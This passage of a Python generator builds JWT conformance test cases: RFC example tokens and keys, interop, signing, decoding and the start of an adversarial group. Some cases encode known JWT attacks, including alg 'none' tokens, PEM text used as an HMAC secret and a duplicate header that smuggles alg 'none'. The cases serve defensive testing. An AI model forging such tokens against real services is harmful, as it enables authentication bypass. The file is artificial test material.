       pyjwt(base_claims(iss="https://issuer.example", aud="api", jti="j"), headers={"typ": "at+jwt"}), key=key,
       options=opts(["HS256", "RS256"], issuer="https://issuer.example", audience=["api"], leeway=5,
                    required=["jti"], typ="at+jwt", max_token_bytes=4096, max_age=600))


def g_rfc():
    g = "rfc"
    payload_b64 = "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ"
    claims = {"iss": "joe", "exp": 1300819380, "http://example.com/is_root": True}
    assert json.loads(b64u_dec(payload_b64)) == claims
    rnow = 1300819370

    # RFC 7515 A.1
    a1_key = {"kty": "oct", "k": "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow"}
    a1 = ("eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9." + payload_b64 +
          ".dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")
    assert b64u_dec(a1.split(".")[0]) == b'{"typ":"JWT",\r\n "alg":"HS256"}'
    jwt.decode(a1, jwt.PyJWK(a1_key, "HS256").key, algorithms=["HS256"], options={"verify_exp": False})
    ok(g, "rfc7515-a1-hs256", "RFC 7515 Appendix A.1: the HS256 example JWS with its JWK oct key (the header "
       "contains CRLF whitespace)", a1, key={"jwk": a1_key}, options=opts("HS256"), claims=claims,
       header={"typ": "JWT", "alg": "HS256"}, now=rnow)
    ok(g, "rfc7519-s3-1-example-jwt", "RFC 7519 §3.1: the example JWT (same as RFC 7515 A.1), key as raw bytes",
       a1, key={"hmac_base64url": a1_key["k"]}, options=opts("HS256"), claims=claims, now=rnow)
    err(g, "rfc7515-a1-hs256-expired-at-real-time", "RFC 7515 A.1 at NOW (2023): exp 1300819380 is long past",
        "expired", a1, key={"jwk": a1_key}, options=opts("HS256"))

    # RFC 7515 A.2
    a2_key = {
        "kty": "RSA",
        "n": "ofgWCuLjybRlzo0tZWJjNiuSfb4p4fAkd_wWJcyQoTbji9k0l8W26mPddxHmfHQp-Vaw-4qPCJrcS2mJPMEzP1Pt0Bm4d4QlL-yRT-"
             "SFd2lZS-pCgNMsD1W_YpRPEwOWvG6b32690r2jZ47soMZo9wGzjb_7OMg0LOL-bSf63kpaSHSXndS5z5rexMdbBYUsLA9e-KXBdQOS-"
             "UTo7WTBEMa2R2CapHg665xsmtdVMTBQY4uDZlxvb3qCo5ZwKh9kG4LT6_I5IhlJH7aGhyxXFvUK-DWNmoudF8NAco9_h9iaGNj8q2et"
             "hFkMLs91kzk2PAcDTW9gb54h4FRWyuXpoQ",
        "e": "AQAB",
        "d": "Eq5xpGnNCivDflJsRQBXHx1hdR1k6Ulwe2JZD50LpXyWPEAeP88vLNO97IjlA7_GQ5sLKMgvfTeXZx9SE-7YwVol2NXOoAJe46sui395"
             "IW_GO-pWJ1O0BkTGoVEn2bKVRUCgu-GjBVaYLU6f3l9kJfFNS3E0QbVdxzubSu3Mkqzjkn439X0M_V51gfpRLI9JYanrC4D4qAdGcopV_"
             "0ZHHzQlBjudU2QvXt4ehNYTCBr6XCLQUShb1juUO1ZdiYoFaFQT5Tw8bGUl_x_jTj3ccPDVZFD9pIuhLhBOneufuBiB4cS98l2SR_RQyG"
             "WSeWjnczT0QU91p1DhOVRuOopznQ",
        "p": "4BzEEOtIpmVdVEZNCqS7baC4crd0pqnRH_5IB3jw3bcxGn6QLvnEtfdUdiYrqBdss1l58BQ3KhooKeQTa9AB0Hw_Py5PJdTJNPY8cQn7ou"
             "Z2KKDcmnPGBY5t7yLc1QlQ5xHdwW1VhvKn-nXqhJTBgIPgtldC-KDV5z-y2XDwGUc",
        "q": "uQPEfgmVtjL0Uyyx88GZFF1fOunH3-7cepKmtH4pxhtCoHqpWmT8YAmZxaewHgHAjLYsp1ZSe7zFYHj7C6ul7TjeLQeZD_YwD66t62wDmp"
             "e_HlB-TnBA-njbglfIsRLtXlnDzQkv5dTltRJ11BKBBypeeF6689rjcJIDEz9RWdc",
        "dp": "BwKfV3Akq5_MFZDFZCnW-wzl-CCo83WoZvnLQwCTeDv8uzluRSnm71I3QCLdhrqE2e9YkxvuxdBfpT_PI7Yz-FOKnu1R6HsJeDCjn12S"
              "k3vmAktV2zb34MCdy7cpdTh_YVr7tss2u6vneTwrA86rZtu5Mbr1C1XsmvkxHQAdYo0",
        "dq": "h_96-mK1R_7glhsum81dZxjTnYynPbZpHziZjeeHcXYsXaaMwkOlODsWa7I9xXDoRwbKgB719rrmI2oKr6N3Do9U0ajaHF-NKJnwgjMd"
              "2w9cjz3_-kyNlxAr2v4IKhGNpmM5iIgOS1VZnOZ68m6_pbLBSp3nssTdlqvd0tIiTHU",
        "qi": "IYd7DHOhrWvxkwPQsRM2tOgrjbcrfvtQJipd-DlcxyVuuM9sQLdgjVk2oy26F0EmpScGLq2MowX7fhd_QJQ3ydy5cY7YIBi87w93IKLE"
              "dfnbJtoOPLUW0ITrJReOgo1cq9SbsxYawBgfp_gh6A5603k2-ZQwVK0JKSHuLFkuQ3U",
    }
    a2 = ("eyJhbGciOiJSUzI1NiJ9." + payload_b64 + ".cC4hiUPoj9Eetdgtv3hF80EGrhuB__dzERat0XF9g2VtQgr9PJbu3XOiZj5RZmh7"
          "AAuHIm4Bh-0Qc_lF5YKt_O8W2Fp5jujGbds9uJdbF9CUAr7t1dnZcAcQjbKBYNX4BAynRFdiuB--f_nZLgrnbyTyWzO75vRK5h6xBArL"
          "IARNPvkSjtQBMHlb1L07Qe7K0GarZRmB_eSN9383LcOLn6_dO--xi12jzDwusC-eOkHWEsqtFZESc6BfI7noOPqvhJ1phCnvWh6IeYI2w"
          "9QOYEUipUTI8np6LbgGY9Fs98rqVt5AXLIhWkWywlVmtVrBp0igcN_IoypGlUPQGe77Rw")
    a2_pub = {k: a2_key[k] for k in ("kty", "n", "e")}
    jwt.decode(a2, jwt.PyJWK(a2_pub, "RS256").key, algorithms=["RS256"], options={"verify_exp": False})
    # the deterministic RS256 signature must be reproducible from the RFC private key
    a2_priv = jwt.PyJWK(a2_key, "RS256").key
    assert b64u(ALGS["RS256"].sign(a2.rsplit(".", 1)[0].encode(), a2_priv)) == a2.rsplit(".", 1)[1]
    ok(g, "rfc7515-a2-rs256", "RFC 7515 Appendix A.2: the RS256 example JWS with the RFC's RSA JWK (private "
       "members included, verifying with its public half)", a2, key={"jwk": a2_key}, options=opts("RS256"),
       claims=claims, header={"alg": "RS256"}, now=rnow)
    ok(g, "rfc7515-a2-rs256-public-jwk", "RFC 7515 A.2 with only the public members n and e", a2,
       key={"jwk": a2_pub}, options=opts("RS256"), claims=claims, now=rnow)

    # RFC 7515 A.3
    a3_key = {"kty": "EC", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
              "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0", "d": "jpsQnnGQmL-YBIffH1136cspYG6-0iY7X1fCE9-E9LI"}
    a3 = ("eyJhbGciOiJFUzI1NiJ9." + payload_b64 +
          ".DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSApmWQxfKTUJqPP3-Kg6NU1Q")
    a3_pub = {k: a3_key[k] for k in ("kty", "crv", "x", "y")}
    jwt.decode(a3, jwt.PyJWK(a3_pub, "ES256").key, algorithms=["ES256"], options={"verify_exp": False})
    ok(g, "rfc7515-a3-es256", "RFC 7515 Appendix A.3: the ES256 example JWS with the RFC's P-256 JWK", a3,
       key={"jwk": a3_key}, options=opts("ES256"), claims=claims, header={"alg": "ES256"}, now=rnow)

    # RFC 7515 A.4 (ES512, payload "Payload")
    a4_key = {"kty": "EC", "crv": "P-521",
              "x": "AekpBQ8ST8a8VcfVOTNl353vSrDCLLJXmPk06wTjxrrjcBpXp5EOnYG_NjFZ6OvLFV1jSfS9tsz4qUxcWceqwQGk",
              "y": "ADSmRA43Z1DSNx_RvcLI87cdL07l6jQyyBXMoxVg_l2Th-x3S1WDhjDly79ajL4Kkd0AZMaZmh9ubmf63e3kyMj2",
              "d": "AY5pb7A0UFiB3RELSD64fTLOSV_jazdF7fLYyuTw8lOfRhWg6Y6rUrPAxerEzgdRhajnu0ferB0d53vM9mE15j2C"}
    a4 = ("eyJhbGciOiJFUzUxMiJ9.UGF5bG9hZA.AdwMgeerwtHoh-l192l60hp9wAHZFVJbLfD_UxMi70cwnZOYaRI1bKPWROc-mZZqwqT2SI-K"
          "GDKB34XO0aw_7XdtAG8GaSwFKdCAPZgoXD2YBJZCPEX3xKpRwcdOO8KpEHwJjyqOgzDO7iKvU8vcnwNrmxYbSW9ERBXukOXolLzeO_Jn")
    a4_pub = {k: a4_key[k] for k in ("kty", "crv", "x", "y")}
    # A.4's payload is not JSON, so verify the JWS layer only
    jwt.api_jws.PyJWS().decode_complete(a4, jwt.PyJWK(a4_pub, "ES512").key, algorithms=["ES512"])
    a4_set = k_jwks(a4_pub, a3_pub)
    add(g, "rfc7515-a4-es512-exact", "RFC 7515 Appendix A.4 exactly: its payload is the text 'Payload', not a "
        "JSON object, and structure (step 2) is checked before the alg (step 3), so the verdict is malformed; "
        "keys: a JWKS with the RFC's P-521 key and the A.3 P-256 key", {"error": "malformed"},
        token=a4, key=a4_set, options=opts("ES512"), now=rnow,
        unsure="RFC 7515 A.4 exact token: payload 'Payload' is not JSON -> malformed (structure before alg)")
    a4_json = build({"alg": "ES512"}, as_bytes(b64u_dec(payload_b64)), alg="ES512",
                    key=jwt.PyJWK(a4_key, "ES512").key)
    assert a4_json.split(".")[1] == payload_b64
    ok(g, "rfc7515-a4-es512", "RFC 7515 A.4's P-521 key and header {\"alg\":\"ES512\"} over the A.1 JSON "
       "payload, algorithms [ES512]; key: a JWKS with the RFC's P-521 key and the A.3 P-256 key", a4_json,
       key=a4_set, options=opts("ES512"), claims=claims, header={"alg": "ES512"}, now=rnow)

    # RFC 7515 A.5 (unsecured)
    a5 = "eyJhbGciOiJub25lIn0." + payload_b64 + "."
    err(g, "rfc7515-a5-unsecured", "RFC 7515 Appendix A.5: the unsecured JWS (alg none) is never accepted",
        "algorithm_not_allowed", a5, key={"jwk": a1_key}, options=opts("HS256"), now=rnow)

    # RFC 8037
    okp_priv = {"kty": "OKP", "crv": "Ed25519", "d": "nWGxne_9WmC6hEr0kuwsxERJxWl7MmkZcDusAxyuf2A",
                "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"}
    okp_pub = {"kty": "OKP", "crv": "Ed25519", "x": okp_priv["x"]}
    a84 = ("eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.hgyY0il_MGCjP0JzlnLWG1PPOt7-09PGcvMg3AIbQR6dWbhij"
           "cNR4ki4iylGjg5BhVsPt9g7sVvpAr_MuM0KAg")
    sk = ed25519.Ed25519PrivateKey.from_private_bytes(b64u_dec(okp_priv["d"]))
    assert b64u(sk.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)) == okp_priv["x"]
    assert b64u(sk.sign(a84.rsplit(".", 1)[0].encode())) == a84.rsplit(".", 1)[1]
    assert b64u_dec(a84.split(".")[1]) == b"Example of Ed25519 signing"
    err(g, "rfc8037-a4-ed25519-non-json-payload", "RFC 8037 Appendix A.4/A.5: a valid Ed25519 JWS whose payload is "
        "the text 'Example of Ed25519 signing'; as a JWT it is malformed (payload not a JSON object)", "malformed",
        a84, key={"jwk": okp_pub}, options=opts("EdDSA"))
    sc = {"sub": "rfc8037", "iat": NOW, "exp": NOW + 600}
    si = b64u(cjson({"alg": "EdDSA", "typ": "JWT"})) + "." + b64u(cjson(sc))
    want = si + "." + b64u(sk.sign(si.encode()))
    add(g, "rfc8037-a1-key-sign-eddsa", "sign with the RFC 8037 A.1 Ed25519 private JWK; the expected token is "
        "computed with `cryptography` (Ed25519 is deterministic, RFC 8032)", {"token": want, "claims": sc},
        kind="sign", sign={"claims": sc, "key": {"jwk": okp_priv}, "algorithm": "EdDSA"}, key={"jwk": okp_pub},
        options=opts("EdDSA"))


def g_interop():
    g = "interop"
    iss, aud = "https://auth.example.com/", "https://api.example.com"
    plan = {"HS256": None, "HS384": None, "HS512": None, "RS256": "rsa2048", "RS384": "rsa2048",
            "RS512": "rsa4096", "PS256": "rsa2048", "PS384": "rsa2048", "PS512": "rsa4096",
            "ES256": "p256", "ES384": "p384", "EdDSA": "ed25519"}
    secret = SECRET["s64"]
    for i, (alg, kname) in enumerate(plan.items()):
        claims = {"sub": f"user-{1000 + i}", "email": f"user{1000 + i}@example.com",
                  "permissions": ["orders:read", "orders:write", "reports:read"], "iss": iss, "aud": aud,
                  "iat": NOW - 120, "exp": NOW + 3480, "jti": f"0d6f1c9e-{i:04d}-4f1a-9b7e-5c2d8a7e6f{i:02d}",
                  "type": "access"}
        o = opts(alg, issuer=iss, audience=aud, required=["sub", "iat", "exp", "jti"])
        skey = secret if kname is None else kname
        if kname is None:
            pem_key, jwk_key = k_hmac(secret), k_jwk(oct_jwk(secret))
            others = [oct_jwk(SECRET["s64"][::-1], kid="previous"), jwk_of("rsa2048", kid="rsa-1")]
            target = oct_jwk(secret, kid="current")
        else:
            pem_key, jwk_key = k_pem(kname), k_jwk(kname)
            others = [jwk_of("rsa2048-b", kid="previous"), jwk_of("p256-b", kid="ec-old"),
                      jwk_of("ed25519-b", kid="ed-old")]
            target = jwk_of(kname, kid="current")
        a = alg.lower()
        ok(g, f"{a}-{'secret' if kname is None else 'pem'}", f"a realistic {alg} access token from PyJWT, verified with issuer, audience and "
           f"required claims; key as {'an HMAC secret' if kname is None else 'a public PEM'}",
           pyjwt(claims, alg, skey), key=pem_key, options=o)
        ok(g, f"{a}-jwk", f"the same kind of {alg} token, key as a public JWK", pyjwt(claims, alg, skey),
           key=jwk_key, options=o)
        ok(g, f"{a}-jwks", f"a {alg} token with kid 'current' selected from a JWKS of several keys",
           pyjwt(claims, alg, skey, headers={"kid": "current"}),
           key=(k_jwks if kname else k_jwks_oct)(*others, target), options=o)


def g_sign():
    g = "sign"
    c = {"sub": "user-1", "name": "Ada", "iat": NOW, "exp": NOW + 600}

    def s_ok(name, why, alg, skey, vkey, *, claims=None, kid=None, headers=None, token=True, expected=None,
             sign_key_obj=None, unsure=None):
        claims = claims or c
        sign = {"claims": claims, "key": skey, "algorithm": alg}
        if kid:
            sign["kid"] = kid
        if headers:
            sign["headers"] = headers
        expect = {}
        if token:
            if expected is None:
                hdrs = dict(headers or {})
                if kid:
                    hdrs["kid"] = kid
                expected = pyjwt(claims, alg, sign_key_obj, headers=hdrs or None)
            expect["token"] = expected
        expect["claims"] = claims
        add(g, name, why, expect, kind="sign", sign=sign, key=vkey, options=opts(alg), unsure=unsure)

    def s_err(name, why, alg, skey, expect, *, claims=None, headers=None, kid=None, unsure=None):
        sign = {"claims": claims or c, "key": skey, "algorithm": alg}
        if kid:
            sign["kid"] = kid
        if headers is not None:
            sign["headers"] = headers
        add(g, name, why, expect, kind="sign", sign=sign, unsure=unsure)

    for alg, sec in [("HS256", "s32"), ("HS384", "s48"), ("HS512", "s64")]:
        s_ok(f"{alg.lower()}-token", f"{alg} is deterministic: the token must equal PyJWT's byte for byte "
             "(header sorted, compact JSON)", alg, k_hmac(SECRET[sec]), k_hmac(SECRET[sec]),
             sign_key_obj=SECRET[sec])
    for alg in ["RS256", "RS384", "RS512"]:
        s_ok(f"{alg.lower()}-pkcs8-token", f"{alg} (PKCS#1 v1.5) is deterministic; PKCS#8 private key", alg,
             k_pem("rsa2048", "pkcs8"), k_pem("rsa2048"), sign_key_obj="rsa2048")
    s_ok("rs256-pkcs1-private-token", "RS256 with an 'RSA PRIVATE KEY' (PKCS#1) PEM", "RS256",
         k_pem("rsa2048", "pkcs1"), k_pem("rsa2048"), sign_key_obj="rsa2048")
    s_ok("rs256-jwk-private-token", "RS256 with an RSA private JWK", "RS256", k_jwk("rsa2048", True),
         k_jwk("rsa2048"), sign_key_obj="rsa2048")
    s_ok("rs512-rsa4096-token", "RS512 with a 4096-bit key", "RS512", k_pem("rsa4096", "pkcs8"),
         k_pem("rsa4096"), sign_key_obj="rsa4096")
    s_ok("eddsa-pkcs8-token", "EdDSA (Ed25519) is deterministic (RFC 8032)", "EdDSA", k_pem("ed25519", "pkcs8"),
         k_pem("ed25519"), sign_key_obj="ed25519")
    s_ok("eddsa-jwk-private-token", "EdDSA with an OKP private JWK", "EdDSA", k_jwk("ed25519", True),
         k_jwk("ed25519"), sign_key_obj="ed25519")
    for alg in ["PS256", "PS384", "PS512"]:
        s_ok(f"{alg.lower()}-roundtrip", f"{alg} is randomised: the signed token must verify with the public key "
             "and return the claims", alg, k_pem("rsa2048", "pkcs8"), k_pem("rsa2048"), token=False)
    s_ok("es256-pkcs8-roundtrip", "ES256 (randomised) round trip, PKCS#8 key", "ES256", k_pem("p256", "pkcs8"),
         k_pem("p256"), token=False)
    s_ok("es256-sec1-roundtrip", "ES256 round trip, SEC1 'EC PRIVATE KEY'", "ES256", k_pem("p256", "sec1"),
         k_pem("p256"), token=False)
    s_ok("es256-jwk-private-roundtrip", "ES256 round trip, EC private JWK", "ES256", k_jwk("p256", True),
         k_jwk("p256"), token=False)
    s_ok("es384-roundtrip", "ES384 round trip", "ES384", k_pem("p384", "sec1"), k_pem("p384"), token=False)
    s_ok("hs256-with-kid-token", "kid goes into the header; keys sorted: alg, kid, typ", "HS256",
         k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]), kid="key-2024-01", sign_key_obj=SECRET["s32"])
    s_ok("rs256-with-kid-token", "RS256 with kid", "RS256", k_pem("rsa2048", "pkcs8"), k_pem("rsa2048"),
         kid="rsa-1", sign_key_obj="rsa2048")
    s_ok("hs256-extra-headers-sorted-token", "extra header parameters are merged and all keys sorted", "HS256",
         k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]), kid="k1", headers={"x-tenant": "acme", "cty": "example"},
         sign_key_obj=SECRET["s32"])
    s_ok("hs256-typ-override-token", "headers may override the default typ", "HS256", k_hmac(SECRET["s32"]),
         k_hmac(SECRET["s32"]), headers={"typ": "at+jwt"}, sign_key_obj=SECRET["s32"],
         unsure="sign headers {'typ': 'at+jwt'} accepted as an override of the default typ JWT")
    s_ok("hs256-oct-jwk-token", "HS256 with an oct JWK", "HS256", k_jwk(oct_jwk(SECRET["s32"])),
         k_hmac(SECRET["s32"]), sign_key_obj=SECRET["s32"])
    raw = bytes(range(100, 164))
    s_ok("hs512-base64url-secret-token", "HS512 with a binary secret", "HS512", {"hmac_base64url": b64u(raw)},
         {"hmac_base64url": b64u(raw)}, sign_key_obj=raw)
    ordered = {"z": 1, "a": "x", "m": [3, 2, 1], "sub": "order", "exp": NOW + 600}
    s_ok("claims-order-preserved-token", "claims are serialised in the given order, not sorted", "HS256",
         k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]), claims=ordered, sign_key_obj=SECRET["s32"])
    nested = {"sub": "n", "ctx": {"roles": ["a", "b"], "flags": {"x": True, "y": None}}, "exp": NOW + 600}
    s_ok("nested-claims-token", "nested claims, compact JSON", "HS256", k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]),
         claims=nested, sign_key_obj=SECRET["s32"])
    uc = {"sub": "user-ü", "name": "Zoë Ünïcode", "city": "東京", "emoji": "😀", "exp": NOW + 600}
    for alg, skey, vkey, kobj in [("HS256", k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]), SECRET["s32"]),
                                  ("EdDSA", k_pem("ed25519", "pkcs8"), k_pem("ed25519"), "ed25519")]:
        si = b64u(cjson({"alg": alg, "typ": "JWT"})) + "." + b64u(cjson(uc, ascii_only=False))
        expected = si + "." + b64u(sign_raw(alg, si.encode(), kobj))
        s_ok(f"{alg.lower()}-non-ascii-claims-raw-utf8-token", "non-ASCII claim text is written as raw UTF-8, "
             "not \\u escapes", alg, skey, vkey, claims=uc, expected=expected)

    # errors
    for name, alg, key, why in [
        ("rsa-public-pem-cannot-sign", "RS256", k_pem("rsa2048"), "an RSA public key"),
        ("rsa-certificate-cannot-sign", "RS256", k_pem("rsa2048", "cert"), "a certificate"),
        ("ec-public-pem-cannot-sign", "ES256", k_pem("p256"), "an EC public key"),
        ("ed25519-public-pem-cannot-sign", "EdDSA", k_pem("ed25519"), "an Ed25519 public key"),
        ("rsa-public-jwk-cannot-sign", "RS256", k_jwk("rsa2048"), "an RSA public JWK"),
        ("hmac-too-short-hs256", "HS256", k_hmac(SECRET["s16"]), "a 16-byte secret for HS256"),
        ("hmac-32-bytes-hs512", "HS512", k_hmac(SECRET["s32"]), "a 32-byte secret for HS512"),
        ("hmac-empty", "HS256", k_hmac(""), "an empty secret"),
        ("hmac-pem-text", "HS256", k_hmac(PEM[("rsa2048", "spki")]), "PEM text as an HMAC secret"),
        ("rsa-private-es256", "ES256", k_pem("rsa2048", "pkcs8"), "an RSA key for ES256"),
        ("p256-private-es384", "ES384", k_pem("p256", "pkcs8"), "a P-256 key for ES384"),
        ("hmac-rs256", "RS256", k_hmac(SECRET["s64"]), "an HMAC secret for RS256"),
        ("ed25519-private-es256", "ES256", k_pem("ed25519", "pkcs8"), "an Ed25519 key for ES256"),
        ("rsa1024-private", "RS256", k_pem("rsa1024", "pkcs1"), "a 1024-bit RSA key"),
        ("jwk-alg-mismatch", "RS512", k_jwk("rsa2048", True, alg="RS256"), "a JWK restricted to RS256 for RS512"),
        ("p521-private", "ES256", k_pem("p521", "pkcs8"), "a P-521 key for ES256 (it serves ES512 only)"),
    ]:
        s_err(name, f"signing is refused with an unusable key: {why}", alg, key, {"error": "invalid_key"})
    s_err("alg-none", "alg none can never be produced", "none", k_hmac(SECRET["s32"]),
          {"error": "unsupported_algorithm"})
    s_err("alg-es512", "ES512 with a P-256 key: the key must be a P-521 key", "ES512", k_pem("p256", "pkcs8"),
          {"error": "invalid_key"})
    s_ok("p521-key", "ES512 (randomised) round trip with a P-521 PKCS#8 key, verified with its SPKI", "ES512",
         k_pem("p521", "pkcs8"), k_pem("p521"), token=False)
    # Time stamping: expires_in sets exp = now + seconds, set_issued_at sets iat = now; both are appended
    # after the given claims (iat first) and counted from `now` (the injectable clock).
    def stamped(name, why, extra, more):
        claims = {"sub": "user-1", "name": "Ada"}
        s_ok(name, why, "HS256", k_hmac(SECRET["s32"]), k_hmac(SECRET["s32"]), claims=claims,
             expected=pyjwt(dict(claims, **more), "HS256", SECRET["s32"]), token=True)
        CASES[f"{g}/{name}"]["sign"].update(extra)
        CASES[f"{g}/{name}"]["expect"]["claims"] = dict(claims, **more)

    stamped("expires-in-token", "expires_in: exp is now plus the seconds given", {"expires_in": 600, "now": NOW},
            {"exp": NOW + 600})
    stamped("set-issued-at-token", "set_issued_at: iat is now", {"set_issued_at": True, "now": NOW}, {"iat": NOW})
    stamped("issued-at-and-expires-in-token", "both: iat then exp, after the given claims",
            {"set_issued_at": True, "expires_in": 60, "now": NOW}, {"iat": NOW, "exp": NOW + 60})
    stamped("now-fraction-floored-token", "the one time rule: a fractional now is floored to whole seconds",
            {"set_issued_at": True, "expires_in": 60, "now": NOW + 0.9}, {"iat": NOW, "exp": NOW + 60})
    stamped("set-issued-at-false-token", "set_issued_at false changes nothing", {"set_issued_at": False}, {})
    for name, why, extra, option, claims in [
        ("expires-in-with-exp-claim", "expires_in would overwrite the exp the claims carry", {"expires_in": 60,
         "now": NOW}, "expires_in", c),
        ("set-issued-at-with-iat-claim", "set_issued_at would overwrite the iat the claims carry",
         {"set_issued_at": True, "now": NOW}, "set_issued_at", c),
        ("expires-in-negative", "a negative lifetime", {"expires_in": -1, "now": NOW}, "expires_in", None),
        ("expires-in-text", "expires_in is seconds, not a duration string like jsonwebtoken's '2h'",
         {"expires_in": "2h", "now": NOW}, "expires_in", None),
        ("expires-in-fraction", "expires_in is a whole number of seconds", {"expires_in": 1.5, "now": NOW},
         "expires_in", None),
        ("set-issued-at-not-a-boolean", "set_issued_at is a boolean", {"set_issued_at": "yes", "now": NOW},
         "set_issued_at", None),
        ("now-out-of-range", "now beyond the range of a JavaScript Date (±8.64e12 s)",
         {"set_issued_at": True, "now": 1e16}, "now", None),
        ("now-text", "now is Unix seconds (or a host date), not text", {"set_issued_at": True, "now": "1700000000"},
         "now", None),
        ("unknown-option-keyid", "jsonwebtoken's keyid is an unknown option here (a hint names kid)",
         {"keyid": "k1"}, "keyid", None),
    ]:
        s_err(name, why, "HS256", k_hmac(SECRET["s32"]), {"options_error": option},
              claims=claims or {"sub": "user-1"})
        CASES[f"{g}/{name}"]["sign"].update(extra)
    for hname, hv in [("alg", "none"), ("kid", "x"), ("crit", ["exp"]), ("b64", False)]:
        s_err(f"headers-contain-{hname}", f"'{hname}' may not be passed through headers (use the dedicated "
              "parameter or never)", "HS256", k_hmac(SECRET["s32"]), {"options_error": "headers"},
              headers={hname: hv})
    s_err("claims-exp-string", "registered claim types are enforced when signing: exp as a string", "HS256",
          k_hmac(SECRET["s32"]), {"error": "invalid_claim"}, claims={"sub": "u", "exp": "1700000600"})
    s_err("claims-aud-empty-array", "aud must not be an empty array", "HS256", k_hmac(SECRET["s32"]),
          {"error": "invalid_claim"}, claims={"sub": "u", "aud": []},
          unsure="signing with aud [] -> invalid_claim (same type rules as verification)")
    s_err("claims-iss-number", "iss must be a string", "HS256", k_hmac(SECRET["s32"]), {"error": "invalid_claim"},
          claims={"sub": "u", "iss": 5}, unsure="signing with iss as a number -> invalid_claim")


def g_decode():
    g = "decode"
    c = base_claims()

    def dok(name, why, token, unsure=None):
        add(g, name, why, {"header": header_of(token), "claims": claims_of(token)}, token=token, kind="decode",
            unsure=unsure)

    def derr(name, why, code, token=None, token_repeat=None):
        add(g, name, why, {"error": code}, token=token, token_repeat=token_repeat, kind="decode")

    t = pyjwt(c, headers={"kid": "k1"})
    h, p, s = split(t)
    dok("valid-token", "decode_unverified returns header and claims", t)
    dok("expired-token", "no claim checks: an expired token decodes", pyjwt(base_claims(exp=NOW - 1000000)))
    dok("alg-none-token", "no alg checks: an unsecured token decodes", build({"alg": "none"}, c, sig=b""))
    dok("bad-signature", "no signature check", f"{h}.{p}.{b64u(b'not the signature')}")
    dok("empty-signature", "an empty signature segment is well-formed", f"{h}.{p}.")
    dok("unsupported-alg", "an unimplemented alg decodes", build({"alg": "ES256K"}, c, alg="ES256K", key="secp256k1"))
    dok("claim-types-not-checked", "exp as a string is returned as-is", pyjwt(base_claims(exp="tomorrow")))
    dok("no-alg-in-header", "a header without alg decodes (no header checks)", build({"typ": "JWT"}, c, alg="HS256"),
        unsure="decode_unverified with no alg: header rules not applied -> decodes")
    dok("crit-header", "crit is a verification rule, not a structure rule", build(
        {"alg": "HS256", "crit": ["exp"]}, c), unsure="decode_unverified ignores crit")
    dok("rs256-token", "an RS256 token decodes without a key", pyjwt(c, "RS256"))
    raw = '{"sub":"Zoë","city":"東京"}'.encode()
    dok("raw-utf8-payload", "raw UTF-8 in the payload", resign(h, b64u(raw)))
    derr("two-segments", "three segments are required", "malformed", f"{h}.{p}")
    derr("four-segments", "three segments are required", "malformed", f"{t}.{s}")
    derr("padded-signature", "the signature segment must be strict base64url too", "malformed", t + "=")
    derr("noncanonical-signature", "non-zero unused bits in the signature's last character", "malformed",
         f"{h}.{p}.{noncanonical(s)}")
    derr("invalid-char-signature", "'+' in the signature", "malformed", f"{h}.{p}.{s[:5]}+{s[6:]}")
    derr("trailing-newline", "no whitespace anywhere", "malformed", t + "\n")
    derr("header-json-array", "the header must be a JSON object", "malformed", resign(b64u(b'["HS256"]'), p))
    derr("payload-json-string", "the payload must be a JSON object", "malformed", resign(h, b64u(b'"x"')))
    derr("payload-invalid-utf8", "invalid UTF-8", "malformed", resign(h, b64u(b'{"sub":"\xff"}')))
    derr("payload-lone-surrogate", "a lone surrogate escape", "malformed", resign(h, b64u(b'{"sub":"\\ud800"}')))
    derr("duplicate-payload-member", "duplicate member names", "malformed",
         resign(h, b64u(b'{"sub":"a","sub":"b"}')))
    derr("duplicate-header-member", "duplicate header member names", "malformed",
         resign(b64u(b'{"alg":"HS256","alg":"none"}'), p))
    derr("depth-33", "nesting deeper than 32", "malformed",
         resign(h, b64u(b'{"d":' + b"[" * 32 + b"]" * 32 + b"}")))
    derr("over-default-size-limit", "the default 16384-byte limit applies", "token_too_large",
         token_repeat={"prefix": f"{h}.", "fill": "A", "count": 16400})
    derr("garbage-16385-bytes", "16385 bytes: too large before decoding", "token_too_large",
         token_repeat={"prefix": "", "fill": ".", "count": 16385})
    derr("garbage-16384-bytes", "16384 dots: within the limit, so structure decides", "malformed",
         token_repeat={"prefix": "", "fill": ".", "count": 16384})


def g_adversarial():
    """One case per known JWT attack class not already covered by another group.

    The README's "Adversarial cases" table maps every class to its cases, here and in the other groups. Each
    description starts with the bug class in brackets and cites the RFC section or CVE it comes from.
    """
    g = "adversarial"
    c = base_claims()
    hs = {"alg": "HS256", "typ": "JWT"}
    t0 = pyjwt(c)
    h0, p0, s0 = split(t0)
    s32 = SECRET["s32"]
    n256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    n384 = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973", 16)

    def mac(secret, header=hs, claims=c, alg="HS256") -> str:
        """An HS* token MACed with `secret` by Python's hmac module: PyJWT refuses PEM/JWK text as a secret, and
        the attacker in these cases does not use a JWT library either."""
        secret = secret.encode("utf-8") if isinstance(secret, str) else secret
